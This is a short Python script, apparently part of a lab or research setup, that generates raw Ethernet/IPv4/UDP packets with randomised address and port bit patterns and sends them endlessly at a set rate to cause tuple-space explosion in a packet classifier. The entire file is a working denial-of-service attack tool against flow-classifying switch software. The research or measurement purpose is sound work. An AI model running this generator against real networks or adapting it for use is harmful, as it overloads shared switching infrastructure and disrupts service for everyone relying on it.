"""Sends packets made to explode masks (tuple-space explosion), until it is ended: ``explode.py INTERFACE PACKETS_PER_SECOND``.

Each field that the tables of attack.py look at has its first 1 at a random place, and random bits behind it: so each packet is told
from others by as many bits of each, and every combination would be a mask of its own. Only the standard library is needed.
"""

from __future__ import annotations

import os
import random
import socket
import struct
import sys
import time

LOT = 10
"""Packets sent one after the other."""


def first_one_at_random(rnd: random.Random, bits: int) -> int:
    place = rnd.randrange(bits)
    return 1 << bits - 1 - place | rnd.getrandbits(bits - 1 - place) if place < bits - 1 else 1


def packet(rnd: random.Random) -> bytes:
    """60 bytes of Ethernet, IPv4 and UDP."""
    ethernet = bytes.fromhex("020000000002") + first_one_at_random(rnd, 48).to_bytes(6, "big") + b"\x08\x00"
    addresses = struct.pack(">II", first_one_at_random(rnd, 32), first_one_at_random(rnd, 32))
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 46, 0, 0, rnd.randrange(2, 256), 17, 0) + addresses
    return ethernet + ip + struct.pack(">HHHH", rnd.getrandbits(16), rnd.getrandbits(16), 26, 0) + bytes(18)


def main() -> None:
    interface, rate = sys.argv[1], float(sys.argv[2])
    # It would be another machine: it must not take the CPU on which is measured, the last one.
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    rnd = random.Random()
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    raw.bind((interface, 0))
    start, sent = time.monotonic(), 0
    while True:
        for _ in range(LOT):
            raw.send(packet(rnd))
        sent += LOT
        time.sleep(max(0.0, start + sent / rate - time.monotonic()))


if __name__ == "__main__":
    main()
